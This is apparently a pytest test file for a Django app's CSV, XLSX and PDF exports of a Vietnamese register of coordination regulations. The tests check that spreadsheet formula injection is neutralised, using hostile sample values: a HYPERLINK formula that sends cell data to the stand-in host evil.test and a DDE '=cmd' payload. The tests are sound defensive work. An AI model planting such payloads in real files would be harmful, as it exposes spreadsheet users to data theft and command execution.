"""The register's exports: formula injection, every row in scope, files that say what they hold,
the register's columns, amendments under their regulation."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from regulations import exports
from regulations.models import Regulation, RegulationParty
from tests.factories import AgencyFactory, AgencySuccessionFactory
from tests.regulations.factories import RegulationFactory

D = datetime.date
HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?"&B3,"Xem văn bản")'
HOSTILE_VALUES = ["@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "\rCR"]


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def workbook(response):
    return load_workbook(io.BytesIO(body(response)))


def today_vn() -> str:
    return timezone.localdate().strftime("%d/%m/%Y")


@pytest.fixture
def hostile(world):
    reg = RegulationFactory(
        host_agency=world.vks_ks,
        partners=[world.ta_ks],
        number="@SUM(1+1)",
        title=HOSTILE_TITLE,
        partners__host_signatory="=cmd|' /C calc'!A0",
    )
    return reg


@pytest.mark.django_db
def test_csv_neutralises_formulas_and_keeps_them_readable(world, client_for, hostile):
    rows = csv_rows(client_for(world.ks_staff).get(reverse("regulations:export_csv")))
    header_at = next(i for i, r in enumerate(rows) if r and r[0] == "STT")
    row = rows[header_at + 1]
    assert row[1] == "'@SUM(1+1)"
    assert row[3] == "'" + HOSTILE_TITLE
    assert "'=cmd" in row[8]  # the signatory column starts with the host's hostile signatory
    for line in rows:
        for value in line:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.django_db
def test_xlsx_writes_formulas_as_plain_text(world, client_for, hostile):
    ws = workbook(client_for(world.ks_staff).get(reverse("regulations:export_xlsx"))).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    assert by_value["'" + HOSTILE_TITLE].data_type == "s"
    assert by_value["'@SUM(1+1)"].data_type == "s"


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_neutralise_every_dangerous_prefix(value):
    from portal.exports import neutralise

    assert neutralise(value) == "'" + value
    assert neutralise("Quy chế " + value) == "Quy chế " + value
    assert neutralise(-5) == -5 and neutralise(None) is None


@pytest.mark.django_db
def test_exports_state_their_filters_date_and_count(world, client_for):
    RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks], field_codes=["criminal"], number="01/HS")
    RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks], field_codes=["civil_enforcement"])
    client = client_for(world.ks_staff)
    criminal = next(f for f in exports.Field.objects.filter(code="criminal"))
    params = {"field": criminal.pk, "status": "in_force"}
    expected = f"Lọc: Lĩnh vực: {criminal.name}; Trạng thái: Đang có hiệu lực — 1 văn bản — lập ngày {today_vn()}"

    rows = csv_rows(client.get(reverse("regulations:export_csv"), params))
    assert rows[0] == ["Sổ theo dõi quy chế phối hợp"]
    assert [expected] in rows[:4]
    header_at = rows.index(next(r for r in rows if r and r[0] == "STT"))
    assert [r[1] for r in rows[header_at + 1 :]] == ["01/HS"]

    wb = workbook(client.get(reverse("regulations:export_xlsx"), params))
    ws = wb.active
    assert ws.title == "Sổ theo dõi quy chế"
    values = [c.value for c in ws["A"]]
    assert expected in values
    title_row = values.index("STT") + 1
    assert ws.freeze_panes == f"A{title_row + 1}"
    assert ws.auto_filter.ref == f"A{title_row}:N{title_row + 1}"
    assert all(c.font.bold for c in ws[title_row])
    assert ws.column_dimensions["D"].width == 60
    assert ws.cell(row=title_row + 1, column=2).value == "01/HS"

    pdf = client.get(reverse("regulations:register_pdf"), params)
    text = " ".join(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages).split())
    assert expected in text


@pytest.mark.django_db
def test_unfiltered_export_says_so(world, client_for):
    RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks])
    rows = csv_rows(client_for(world.ks_staff).get(reverse("regulations:export_csv")))
    assert any(r and r[0].startswith("Không lọc") and "— 1 văn bản —" in r[0] for r in rows[:4])


@pytest.mark.django_db
def test_exports_carry_the_register_columns(world, client_for):
    dissolved = AgencyFactory(
        name="Viện kiểm sát nhân dân huyện Cam Lâm",
        locality=world.khanh_son,
        active_from=D(2000, 1, 1),
        active_to=D(2025, 6, 30),
    )
    AgencySuccessionFactory(predecessor=dissolved, successor=world.vks_ks, effective_on=D(2025, 7, 1))
    reg = RegulationFactory(
        host_agency=dissolved, partners=[world.ta_ks], partners__host_signatory="Đặng Văn A", signed_on=D(2020, 1, 10)
    )
    Regulation.objects.filter(pk=reg.pk).update(last_review_on=D(2024, 5, 6), next_review_due=D(2025, 5, 6))
    RegulationParty.objects.filter(regulation=reg, agency=world.ta_ks).update(
        signatory_name="Trần Thị B", signatory_title="Chánh án"
    )
    client = client_for(world.ks_staff)
    rows = csv_rows(client.get(reverse("regulations:export_csv")))
    header_at = next(i for i, r in enumerate(rows) if r and r[0] == "STT")
    header, row = rows[header_at], dict(zip(rows[header_at], rows[header_at + 1], strict=True))
    assert {"Người ký", "Sơ kết gần nhất", "Hạn sơ kết tiếp theo", "Cơ quan chủ trì"} <= set(header)
    assert row["Cơ quan chủ trì"] == (
        "Viện kiểm sát nhân dân huyện Cam Lâm (đã giải thể → nay là Viện kiểm sát nhân dân huyện Khánh Sơn)"
    )
    assert "Đặng Văn A" in row["Người ký"] and "Trần Thị B (Chánh án, TAND huyện Khánh Sơn)" in row["Người ký"]
    assert row["Sơ kết gần nhất"] == "06/05/2024" and row["Hạn sơ kết tiếp theo"] == "06/05/2025"

    ws = workbook(client.get(reverse("regulations:export_xlsx"))).active
    values = [c.value for c in ws["L"]]
    assert datetime.datetime(2024, 5, 6) in values


@pytest.mark.django_db
def test_amendments_are_listed_under_their_regulation_not_counted(world, client_for):
    base = RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks], number="01/QC")
    amendment = RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks], number="02/QC-SĐ")
    Regulation.objects.filter(pk=amendment.pk).update(amendment_of=base)
    rows = csv_rows(client_for(world.ks_staff).get(reverse("regulations:export_csv")))
    assert any("— 1 văn bản —" in r[0] for r in rows[:4] if r)
    header_at = next(i for i, r in enumerate(rows) if r and r[0] == "STT")
    data = rows[header_at + 1 :]
    assert [r[1] for r in data] == ["01/QC"]
    assert data[0][13] == "02/QC-SĐ"


@pytest.mark.django_db
def test_every_row_in_scope_with_bounded_queries(world, client_for, monkeypatch, django_assert_max_num_queries):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 4)
    for _ in range(13):
        RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks], field_codes=["criminal"])
    RegulationFactory(host_agency=world.vks_hg, partners=[world.ta_hg])  # out of scope
    client = client_for(world.ks_staff)
    # 4 chunks: one query for the rows and three prefetches per chunk; a few for session, user, count.
    with django_assert_max_num_queries(30):
        rows = csv_rows(client.get(reverse("regulations:export_csv")))
    header_at = next(i for i, r in enumerate(rows) if r and r[0] == "STT")
    assert [r[0] for r in rows[header_at + 1 :]] == [str(i) for i in range(1, 14)]
    with django_assert_max_num_queries(30):
        ws = workbook(client.get(reverse("regulations:export_xlsx"))).active
    assert ws.max_row == header_at + 1 + 13


@pytest.mark.django_db
def test_export_is_audited_and_streams(world, client_for):
    from audit.models import AuditEvent

    RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks])
    response = client_for(world.ks_staff).get(reverse("regulations:export_csv"))
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert AuditEvent.objects.filter(action="export").exists()


@pytest.mark.django_db
def test_filter_line_names_search_agency_and_years(world, client_for):
    RegulationFactory(
        host_agency=world.vks_ks, partners=[world.ta_ks], title="Quy chế phối hợp thi hành án", signed_on=D(2021, 3, 1)
    )
    params = {"q": "thi hanh an", "agency": world.vks_ks.pk, "signed_from": "2020", "sort": "number"}
    rows = csv_rows(client_for(world.ks_staff).get(reverse("regulations:export_csv"), params))
    assert rows[2] == [
        "Lọc: Tìm kiếm: “thi hanh an”; Cơ quan (kể cả cấp dưới): Viện kiểm sát nhân dân huyện Khánh Sơn; "
        f"Ký từ năm: 2020 — 1 văn bản — lập ngày {today_vn()}"
    ]
    assert rows[1] == [world.vks_ks.name]  # the unit the file was made for


@pytest.mark.django_db
def test_an_invalid_filter_refuses_the_export_instead_of_dropping_it(world, client_for):
    RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks])
    response = client_for(world.ks_staff).get(
        reverse("regulations:export_csv"), {"status": "in_force", "signed_from": "abc"}
    )
    assert response.status_code == 302 and response["Location"].startswith(reverse("regulations:list"))
    assert "signed_from=abc" in response["Location"]  # the list shows the same filters and the error


def test_the_printed_register_marks_overdue_reviews(world, client_for):
    import datetime as dt

    RegulationFactory(
        host_agency=world.vks_ks,
        partners=[world.ta_ks],
        number="01/QC-QUAHAN",
        due=dt.date.today() - dt.timedelta(days=30),
    )
    RegulationFactory(
        host_agency=world.vks_ks,
        partners=[world.ta_ks],
        number="02/QC-CONHAN",
        due=dt.date.today() + dt.timedelta(days=200),
    )
    pdf = client_for(world.ks_staff).get(reverse("regulations:register_pdf"))
    text = " ".join(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages).split())
    assert text.count("Quá hạn") == 1
    # 02 (signed later) is printed first; the one mark stands in 01's row, after its number.
    assert text.index("02/QC-CONHAN") < text.index("01/QC-QUAHAN") < text.index("Quá hạn")
